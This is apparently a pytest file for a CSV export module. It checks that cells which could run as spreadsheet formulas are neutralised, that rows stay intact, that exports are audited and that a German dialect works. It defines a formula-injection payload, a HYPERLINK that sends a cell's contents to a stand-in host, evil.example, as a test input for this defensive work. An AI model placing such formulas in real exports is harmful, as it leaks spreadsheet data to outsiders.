"""Exports never leak: one neutralisation for every cell, a CSV that keeps each cell in its row,
and an audit row per export (who, what, how many rows)."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal

import pytest
from sqlmodel import select

from core import exports, i18n
from core.changes import versions
from core.errors import ValidationError
from db.models import AuditLog

FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"Open")'


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(1,2)", "'@SUM(1,2)"),
        # A control character in front: NUL is dropped (LibreOffice drops it too, then runs the rest).
        ("\x00" + FORMULA, "'" + FORMULA),
        ("\x01\x02=1+1", "'=1+1"),
        ("\x1b[31m=1", "'[31m=1"),
        # Any space or invisible character in front.
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\n=1+1", "'\n=1+1"),
        (" =1+1", "' =1+1"),
        ("\u00a0=1+1", "'\u00a0=1+1"),  # no-break space
        ("\u2003=1+1", "'\u2003=1+1"),  # em space
        ("\u3000=1+1", "'\u3000=1+1"),  # ideographic space
        ("\u200b=1+1", "'\u200b=1+1"),  # zero-width space
        ("\ufeff=1+1", "'\ufeff=1+1"),  # byte order mark
        ("\u202e=1+1", "'\u202e=1+1"),  # right-to-left override
        ("\u00a0plain words", "'\u00a0plain words"),
        # Text that is text stays as it is (control characters inside are dropped).
        ("Dark mode for the app", "Dark mode for the app"),
        ("Sum = a + b - c @ noon", "Sum = a + b - c @ noon"),
        ("Tab\tinside", "Tab\tinside"),
        ("NUL\x00inside", "NULinside"),
        ("'quoted already", "'quoted already"),
        ("", ""),
        # Numbers stay numbers, also negative ones.
        (-5, -5),
        (2.5, 2.5),
    ],
)
def test_a_cell_that_a_spreadsheet_could_run_starts_with_an_apostrophe(cell, expected):
    assert exports.neutralise_cell(cell) == expected


@pytest.mark.parametrize("cell", [FORMULA, "+1", "-1", "@x", "\t=1", " =1", "\u00a0=1", "\u200b=1", "plain", "'plain"])
def test_an_exported_cell_imports_back_as_it_was(cell):
    assert exports.unneutralise_cell(exports.neutralise_cell(cell)) == cell


def test_a_carriage_return_inside_a_cell_never_starts_a_row_of_its_own():
    text = exports.to_csv(
        [{"title": "first\r=1+1", "body": "line one\nline two"}, {"title": "second", "body": "x"}], ("title", "body")
    )
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["title", "body"], ["first\r=1+1", "line one\nline two"], ["second", "x"]]
    # Every record ends in CRLF and the bare CR stays inside quotes.
    assert text.startswith("title,body\r\n") and '"first\r=1+1"' in text


def test_an_export_is_audited_with_who_what_format_and_rows(write, read, team):
    with write() as s:
        before = versions(s).get("exports", 0)
        exports.record_export(
            s, actor=team["analyst"], what="ideas", file_format="csv", rows=42, details={"statuses": ["new"]}
        )
    with read() as s:
        row = s.exec(select(AuditLog).where(AuditLog.entity == exports.ENTITY)).one()
        assert versions(s)["exports"] == before + 1  # the audit log reads afresh, no domain's data does
    assert (row.actor, row.actor_id, row.action) == ("analyst", team["analyst"].id, "ideas.export")
    assert json.loads(row.after or "{}") == {"what": "ideas", "format": "csv", "rows": 42, "statuses": ["new"]}


def test_the_german_dialect_writes_semicolons_a_decimal_comma_and_a_byte_order_mark():
    rows = [
        {"title": "Dark mode; at last", "share": 79.9, "count": 26000, "change": -2.5, "done": True},
        {"title": "-2,5 + 3", "share": Decimal("0.125"), "count": -3, "change": 1e-05, "done": False},
        {"title": FORMULA, "share": None, "count": 0, "change": 100.0, "done": None},
    ]
    columns = ("title", "share", "count", "change", "done")
    text = exports.to_csv(rows, columns, dialect=exports.Dialect.excel_de)
    assert text.startswith(exports.BYTE_ORDER_MARK + "title;share;count;change;done\r\n")
    read_back = list(csv.reader(io.StringIO(text.removeprefix(exports.BYTE_ORDER_MARK), newline=""), delimiter=";"))
    assert read_back[1:] == [
        ["Dark mode; at last", "79,9", "26000", "-2,5", "True"],  # the cell with a semicolon is quoted
        ["'-2,5 + 3", "0,125", "-3", "1e-05", "False"],  # text that starts like a formula stays neutralised
        ["'" + FORMULA, "", "0", "100,0", ""],
    ]
    # The plain dialect is what it always was: commas, decimal points, no byte order mark.
    plain = exports.to_csv(rows, columns)
    assert plain.startswith("title,share,count,change,done\r\n")
    assert "Dark mode; at last,79.9,26000,-2.5,True\r\n" in plain and '"\'-2,5 + 3",0.125,' in plain


def test_an_unknown_spreadsheet_format_is_refused_with_the_ones_there_are():
    with pytest.raises(ValidationError, match="choose one of plain, excel_de"):
        exports.to_csv([], ("title",), dialect="excel")
    with i18n.using("de"), pytest.raises(ValidationError, match="Unbekanntes Tabellenformat 'excel'"):
        exports.dialect_of("excel")
